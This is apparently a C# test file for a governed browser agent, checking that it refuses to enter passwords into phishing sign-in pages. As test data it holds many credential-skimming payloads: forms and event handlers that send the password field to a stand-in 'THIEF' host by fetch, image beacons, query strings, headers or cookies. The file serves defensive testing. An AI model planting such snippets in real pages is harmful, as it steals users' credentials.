using System.Text;
using GovernedMcp.Browser.Tests.Fixtures;
using GovernedMcp.Governance;
using GovernedMcp.Governance.Portals;
using GovernedMcp.Governance.Tools;
using GovernedMcp.Testing;

namespace GovernedMcp.Browser.Tests.Blocks.Login;

/// <summary>Sign-in pages that want the secret for somebody else, or in a place where it would stay. Every server hears every byte.</summary>
[Collection(SharedBrowser.SigningIn)]
public sealed class PhishingTests(BrowserFixture browser) : IAsyncLifetime
{
    private const string Fields = "<input name=u autocomplete=username><input type=password name=p id=p>";
    private readonly SignIns _signIns = new(browser);
    private TestSite _site = null!;
    private TestSite _thief = null!;

    public async Task InitializeAsync()
    {
        _site = await TestSite.StartAsync(("/in", "<h1>Welcome</h1>"));
        _thief = await TestSite.StartAsync(("/", $"<form method=post action=/take>{Fields}<button>Sign in</button></form>"), ("/take", "<h1>Thanks</h1>"));
    }

    public async Task DisposeAsync()
    {
        await _signIns.DisposeAsync();
        await _site.DisposeAsync();
        await _thief.DisposeAsync();
    }

    /// <summary>Refused before anything is typed; THIEF is an origin of the Skill that may be read, but where no credential belongs.</summary>
    public static TheoryData<string> Untyped => new(
    [
        "<meta http-equiv=refresh content='0;url=THIEF'>",
        "<iframe src=THIEF width=400 height=300></iframe>",
        $"<form method=post action=THIEFtake>{Fields}<button>Sign in</button></form>",
        $"<form method=get action=/in>{Fields}<button>Sign in</button></form>",
        $"<form method=post action=/in>{Fields}<button formaction=THIEFtake>Sign in</button></form>",
        $"<form method=post action=/in>{Fields}<button formmethod=get>Sign in</button></form>",
    ]);

    /// <summary>Honest to look at, and something else once it is typed or sent.</summary>
    public static TheoryData<string> Turning => new(
    [
        Form("", "onmousedown=\"this.form.action = 'THIEFtake'\" onclick=\"this.form.action = 'THIEFtake'\""),
        Form("onsubmit=\"this.action = 'THIEFtake'\""),
        Form("onsubmit=\"event.submitter.setAttribute('formaction', 'THIEFtake')\""),
        Form("oninput=\"fetch('THIEFtake', { method: 'POST', mode: 'no-cors', keepalive: true, body: p.value })\""),
        Form("oninput=\"new Image().src = 'THIEF?q=' + p.value\""),
        Form("oninput=\"new Image().src = '/pixel/' + p.value\""),
        Form("onsubmit=\"this.action = '/in?p=' + encodeURIComponent(p.value)\""),
        Form("onsubmit=\"event.preventDefault(); location = '/in?p=' + p.value\""),
        Form("onsubmit=\"this.append(Object.assign(document.createElement('input'), { type: 'hidden', name: 'copy', value: p.value }))\""),
        Form("onsubmit=\"event.preventDefault(); fetch('/in', { method: 'POST', body: new URLSearchParams({ p: btoa(p.value) }) })\""),
        Form("onsubmit=\"event.preventDefault(); fetch('/in', { method: 'POST', body: new URLSearchParams({ p: 'note: ' + p.value }) })\""),
        Form("onsubmit=\"event.preventDefault(); fetch('/in', { method: 'POST', body: new URLSearchParams({ p: p.value.toUpperCase() }) })\""),
        Form("onsubmit=\"event.preventDefault(); fetch('/in', { method: 'POST', headers: { 'x-word': p.value } })\""),
        Form("onsubmit=\"event.preventDefault(); fetch('/in', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ [p.value]: 1 }) })\""),
        Form("onsubmit=\"event.preventDefault(); fetch('/in', { method: 'POST', body: new Blob([p.value], { type: 'text/plain' }) })\""),
        Form("onsubmit=\"document.cookie = 'word=' + p.value\""),
    ]);

    [Theory]
    [MemberData(nameof(Untyped))]
    public async Task Nothing_is_typed_where_it_must_not_be(string page)
    {
        foreach (var portal in (Portal[])[Portal(page), SignIns.Typed(Portal(page))])
        {
            (await _signIns.FailAsync(portal)).Rule.ShouldBeOneOf(Rules.Login.WrongOrigin, Rules.Login.NoForm);
            Heard().Where(one => one.StartsWith("POST", StringComparison.Ordinal) || one.Contains("?u=", StringComparison.Ordinal)).ShouldBeEmpty();
            HoldsNoSecret();
        }
    }

    [Theory]
    [MemberData(nameof(Turning))]
    public async Task The_secret_reaches_nobody_when_its_placeholder_goes_astray(string page)
    {
        List<string> told = [];
        browser.Host.EgressDenied += Hear;
        try
        {
            var fault = await _signIns.FailAsync(Portal(page));
            fault.Rule.ShouldBe(Rules.Login.SecretMisplaced, fault.Message);
            fault.Message.ShouldContain("`password`");
            told.ShouldNotBeEmpty("what was not let out is on record");
            // What is tried while it is typed does not unsay that the form itself may be honest; whichever comes first.
            var honest = page.Contains("oninput", StringComparison.Ordinal);
            _thief.Heard.ShouldNotContain(one => one.StartsWith("POST", StringComparison.Ordinal));
            if (!honest) _site.Heard.ShouldNotContain(one => one.StartsWith("POST", StringComparison.Ordinal));
            HoldsNoSecret(but: honest ? "POST /in\n" : "nothing");
            (await _signIns.FailAsync(Portal(page))).Rule.ShouldBe(Rules.Login.SecretMisplaced, "nothing was sent, so nothing counts against the account");
        }
        finally
        {
            browser.Host.EgressDenied -= Hear;
        }

        void Hear(Governance.Sessions.SessionFacts session, Browser.Egress.EgressDenial denial) => told.Add(denial.Why);
    }

    [Theory]
    [InlineData("oninput=\"new Image().src = '/pixel/' + encodeURIComponent(p.value)\"")]
    [InlineData("oninput=\"fetch('THIEFtake', { method: 'POST', mode: 'no-cors', body: p.value })\"")]
    [InlineData("onsubmit=\"event.preventDefault(); location = '/in?p=' + btoa(p.value)\"")]
    [InlineData("onsubmit=\"this.action = '/in?p=' + encodeURIComponent(p.value)\"")]
    public async Task A_typed_secret_leaves_in_the_body_of_a_sign_in_request_or_not_at_all(string attack)
    {
        const string Word = "S3cr3t CANARY+&=7";
        var fault = await Should.ThrowAsync<BlockFault>(() => _signIns.LoginAsync(SignIns.Typed(Portal(Form(attack))), Word));
        fault.Rule.ShouldBe(Rules.Login.SecretMisplaced, fault.Message);
        foreach (var request in Heard()) new Canary(Word).IsNotIn("a request", request);
    }

    [Fact]
    public async Task What_the_page_shows_of_its_field_is_no_secret()
    {
        var result = await _signIns.LoginAsync(Portal(Form("onsubmit=\"event.preventDefault(); const word = p.value; fetch('/in', { method: 'POST', body: new FormData(this) }).then(() => document.body.innerHTML = '<h1>Your password is ' + word + '</h1>')\"")));
        var shown = result.Data["page_text"]!["headings"]![0]!.GetValue<string>();
        shown.ShouldMatch("^Your password is [A-Za-z0-9]{24}$");
        HoldsNoSecret(but: "POST /in\n");
    }

    private Portal Portal(string page)
    {
        _site.Page("/", page.Replace("THIEF", _thief.Address.AbsoluteUri, StringComparison.Ordinal));
        var both = _site.Portal(Origins.Of(_thief.Address));
        return both with { Origins = both.Origins with { Navigate = both.Origins.Resource } };
    }

    private IEnumerable<string> Heard() => _site.Heard.Concat(_thief.Heard);

    private void HoldsNoSecret(string but = "nothing")
    {
        var canary = new Canary(SignIns.Password);
        foreach (var request in Heard().Where(one => !one.StartsWith(but, StringComparison.Ordinal))) canary.IsNotIn("a request", Encoding.Latin1.GetBytes(request));
    }

    private static string Form(string form, string button = "") => $"<form method=post action=/in {form}>{Fields}<button {button}>Sign in</button></form>";
}
